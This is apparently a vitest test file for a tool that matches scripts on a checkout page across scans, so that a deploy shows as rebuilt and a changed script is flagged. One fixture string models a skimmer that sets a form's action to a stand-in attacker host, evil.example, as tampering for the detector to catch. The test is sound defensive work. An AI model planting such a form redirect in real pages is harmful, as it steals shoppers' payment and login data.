// Matching of scripts between scans: a deploy is "rebuilt", not "removed and added".
import { describe, expect, it } from 'vitest'
import { matchScripts, type ScriptIdentity, sketchOf } from '#changes/index.ts'
import { sha256Hex } from '#shared/sha256.ts'

const page = 'https://shop.example/checkout'
let count = 0

function script(text: string, given: Partial<ScriptIdentity> = {}): ScriptIdentity {
  const kind = given.url ? 'external' : 'inline'
  return {
    id: `s${count++}`,
    sha256: sha256Hex(text),
    kind,
    url: null,
    frame: page,
    elementId: null,
    order: 0,
    sketch: sketchOf(text),
    ...given,
  }
}

/** A bundle of parts with the given numbers; other numbers are other code. */
const bundle = (numbers: readonly number[], end = '') =>
  numbers.map((n) => `function f${n}(a){ return a.m${n}(${n}) + a.n${n}.length * a.o${n} }`).join('\n') + end
const numbers = Array.from({ length: 20 }, (_, index) => index)

const told = (before: ScriptIdentity[], after: ScriptIdentity[], history?: ScriptIdentity[][]) =>
  matchScripts(before, after, history).map((match) => `${match.before?.id ?? '-'} ${match.by ?? 'none'} ${match.after?.id ?? '-'}`)

describe('scripts with addresses', () => {
  it('are the same at the same address, whatever their content', () => {
    const [a, b] = [script('a()', { url: 'https://x.example/a.js' }), script('b()', { url: 'https://x.example/a.js' })]
    expect(told([a], [b])).toEqual([`${a.id} address ${b.id}`])
  })

  it('are matched under another hash or version in the name', () => {
    const at = (name: string, text: string) => script(text, { url: `https://x.example/static/js/${name}` })
    const [a, b] = [at('main.3f2a9c1b.js', 'a()'), at('vendor.11aa22bb.js?v=1', 'v()')]
    const [c, d] = [at('vendor.99cc00dd.js?v=2', 'w()'), at('main.77d0e4aa.js', 'b()')]
    expect(told([a, b], [c, d])).toEqual([`${a.id} template ${d.id}`, `${b.id} template ${c.id}`])
  })

  it('are matched by their code if the name gives no hint', () => {
    const a = script(bundle(numbers), { url: 'https://x.example/assets/kestrel.js' })
    const b = script(bundle(numbers.slice(1), '\nmore.and()'), { url: 'https://x.example/assets/heron.js' })
    const c = script('other.code()', { url: 'https://x.example/assets/wren.js' })
    expect(told([a], [c, b])).toEqual([`${a.id} likeness ${b.id}`, `- none ${c.id}`])
  })

  it('are not the same on two hosts', () => {
    const [a, b] = [script('a()', { url: 'https://x.example/a.js' }), script('b()', { url: 'https://y.example/a.js' })]
    expect(told([a], [b])).toEqual([`${a.id} none -`, `- none ${b.id}`])
  })

  it('are matched by a template from earlier scans', () => {
    const at = (name: string, text: string) => script(text, { url: `https://x.example/app/${name}/main.js` })
    const history = [[at('kestrel', bundle(numbers))], [at('heron', bundle(numbers, '\nx.y()'))]]
    const [a, b] = [at('heron', bundle(numbers)), at('wren', 'now.quite.another()')]
    expect(told([a], [b])).toEqual([`${a.id} none -`, `- none ${b.id}`])
    expect(told([a], [b], history)).toEqual([`${a.id} template ${b.id}`])
  })

  it('of a deploy are all rebuilt, none removed and none new', () => {
    const at = (index: number, build: string) =>
      script(
        bundle(
          numbers.map((n) => n + index * 100),
          `\nbuilt("${build}")`,
        ),
        { url: `https://x.example/chunks/${build}${index}.js`, order: index },
      )
    const matches = matchScripts(
      numbers.map((index) => at(index, 'crane')),
      numbers.map((index) => at(19 - index, 'swift')),
    )
    expect(matches).toHaveLength(20)
    expect(matches.every(({ before, after }) => before?.order === after?.order)).toBe(true)
  })
})

describe('inline scripts', () => {
  const slider = (n: number, more = '') => `var track = document.getElementById('slider-${n}'); track.start(4000);${more}`

  it('that look alike are distinguished: the unchanged one stays, the changed one is the change', () => {
    const [a, b] = [script(slider(1), { order: 0 }), script(slider(2), { order: 1 })]
    const turned = script(slider(1, 'document.forms[0].action = "https://evil.example/"'), { order: 0 })
    const kept = script(slider(2), { order: 1 })
    expect(told([a, b], [turned, kept]).sort()).toEqual([`${a.id} likeness ${turned.id}`, `${b.id} content ${kept.id}`].sort())
    // The same if they also swap places.
    const [first, second] = [script(slider(2), { order: 0 }), script(slider(1, 'evil()'), { order: 1 })]
    expect(told([a, b], [first, second])).toEqual([`${a.id} likeness ${second.id}`, `${b.id} content ${first.id}`])
  })

  it('with other data are matched by their shape, nearest first', () => {
    const [a, b] = [script('push({ "n": "1" })', { order: 3 }), script('push({ "n": "2" })', { order: 7 })]
    const [c, d] = [script('push({ "n": "3" })', { order: 4 }), script('push({ "n": "4" })', { order: 8 })]
    expect(told([a, b], [c, d])).toEqual([`${a.id} shape ${c.id}`, `${b.id} shape ${d.id}`])
  })

  it('are matched by the ID of their element, or else only if their surroundings are the same', () => {
    const [a, b] = [script('one()', { elementId: 'config' }), script('quite.another = 2', { elementId: 'config' })]
    expect(told([a], [b])).toEqual([`${a.id} element ${b.id}`])
    const [c, d] = [script('one()'), script('quite.another = 2')]
    expect(told([c], [d])).toEqual([`${c.id} none -`, `- none ${d.id}`])
  })

  it('of another frame are different scripts', () => {
    const [a, b] = [script('one()'), script('one()', { frame: 'https://shop.example/help' })]
    expect(told([a], [b])).toEqual([`${a.id} none -`, `- none ${b.id}`])
  })
})

it('every script is reported once, even if many are equal', () => {
  const [before, after] = [7, 5].map((length) => Array.from({ length }, (_, order) => script('same()', { order })))
  const matches = matchScripts(before!, after!)
  expect(matches.filter(({ by }) => by === 'content')).toHaveLength(5)
  expect(matches.filter((match) => match.after === null)).toHaveLength(2)
})
